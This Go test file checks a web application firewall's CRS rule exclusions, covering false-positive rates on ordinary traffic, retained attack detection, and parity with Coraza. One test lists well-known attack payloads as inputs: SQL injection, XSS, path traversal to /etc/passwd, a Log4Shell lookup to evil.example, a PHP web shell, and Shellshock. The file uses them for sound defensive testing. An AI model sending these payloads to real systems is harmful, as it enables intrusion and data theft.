package crs

import (
	"flag"
	"maps"
	"math/rand/v2"
	"slices"
	"testing"

	"github.com/yagura-sec/yagura/prevent/waf/coraza"
)

var ordinaryEach = flag.Int("ordinary", 200, "ordinary requests of each kind")

// packages are all exclusions that are shipped.
var packages = []string{"prose", "wiki", "graphql", "analytics", "uploads"}

func excluded(tb testing.TB, names ...string) *Engine {
	tb.Helper()
	o := Options{Paranoia: 1}
	for _, name := range names {
		s, err := Exclusion(name)
		if err != nil {
			tb.Fatal(err)
		}
		o.Before = append(o.Before, s)
	}
	e, err := Compile(o)
	if err != nil {
		tb.Fatal(err)
	}
	return e
}

// Of ordinary requests at most one in a hundred is blocked with the shipped
// exclusions. Without them it is many more, or they would not be needed.
func TestOrdinaryTrafficPasses(t *testing.T) {
	bare, spared := excluded(t), excluded(t, packages...)
	w := &world{r: rand.New(rand.NewPCG(20261123, 1))}
	all, before, after := 0, 0, 0
	for _, name := range slices.Sorted(maps.Keys(ordinary)) {
		b, a := 0, 0
		for range *ordinaryEach {
			r := ordinary[name](w)
			if bare.Inspect(r).Rule != 0 {
				b++
			}
			if res := spared.Inspect(r); res.Rule != 0 {
				if a++; a <= 3 {
					for _, m := range res.Matches {
						if len(m.Targets) > 0 {
							t.Logf("%s is blocked: %d on %s: %.120q", name, m.ID, m.Targets[0].String(), m.Targets[0].Value)
						}
					}
				}
			}
		}
		t.Logf("%-22s blocked of %d: %d bare, %d with the exclusions", name, *ordinaryEach, b, a)
		all, before, after = all+*ordinaryEach, before+b, after+a
	}
	t.Logf("all: of %d requests %d (%.1f %%) are blocked bare, %d (%.2f %%) with the exclusions", all, before, 100*float64(before)/float64(all), after, 100*float64(after)/float64(all))
	if all < 3000 && *ordinaryEach >= 200 || after*100 > all || before*20 < all {
		t.Errorf("%d of %d blocked, %d without exclusions", after, all, before)
	}
}

// Each package leaves every rule that CRS's own tests expect, and the block.
func TestExclusionsLoseNoAttack(t *testing.T) {
	tests := regressions(t)
	bare := excluded(t)
	for _, name := range packages {
		spared := excluded(t, name)
		for i := range tests {
			r := tests[i].request
			want, got := bare.Inspect(r), spared.Inspect(r)
			if want.Rule != 0 && got.Rule == 0 {
				t.Errorf("%s: %s passes", name, tests[i].name)
			}
			for _, id := range tests[i].expect {
				is := func(m Match) bool { return m.ID == id }
				if slices.ContainsFunc(want.Matches, is) && !slices.ContainsFunc(got.Matches, is) {
					t.Errorf("%s: %s does not match %d", name, tests[i].name, id)
				}
			}
		}
	}
}

// In the fields that packages spare, real attacks are still found, but for the page
// of a wiki, which is not looked at.
func TestExclusionsAreNarrow(t *testing.T) {
	e := excluded(t, packages...)
	w := &world{r: rand.New(rand.NewPCG(1, 1))}
	for _, attack := range []string{
		"1' UNION SELECT username, password FROM users-- -", "x' OR '1'='1", "<script>alert(document.cookie)</script>", "<img src=x onerror=alert(1)>",
		"../../../../etc/passwd", "${jndi:ldap://evil.example/a}", "<?php system($_GET['c']); ?>", "$(cat /etc/passwd)", "() { :; }; /bin/bash -c id",
	} {
		for _, field := range []string{"comment", "q", "title"} {
			if e.Inspect(w.form("/articles/1/comments", field, attack)).Rule == 0 {
				t.Errorf("%s=%q passes", field, attack)
			}
		}
		if e.Inspect(w.form("/wiki/edit/a", "title", attack)).Rule == 0 {
			t.Errorf("the title of a wiki page may be %q", attack)
		}
	}
}

// The packages are the same to Coraza.
func TestExclusionsInCoraza(t *testing.T) {
	o := coraza.Options{Paranoia: 1}
	for _, name := range packages {
		s, err := Exclusion(name)
		if err != nil {
			t.Fatal(err)
		}
		o.Before = append(o.Before, coraza.Source(s))
	}
	ref, err := coraza.Compile(o)
	if err != nil {
		t.Fatal(err)
	}
	e := excluded(t, packages...)
	w := &world{r: rand.New(rand.NewPCG(3, 3))}
	for _, name := range slices.Sorted(maps.Keys(ordinary)) {
		for range 2 {
			r := ordinary[name](w)
			want, err := ref.Inspect(r)
			if err != nil {
				t.Fatal(err)
			}
			var ids, others []int
			for _, m := range e.Inspect(r).Matches {
				ids = append(ids, m.ID)
			}
			for _, m := range want.Matches {
				others = append(others, m.ID)
			}
			if !slices.Equal(ids, others) {
				t.Errorf("%s: %v, Coraza %v", name, ids, others)
			}
		}
	}
	if _, err := Exclusion("no such"); err == nil {
		t.Error("an unknown name was taken")
	}
}
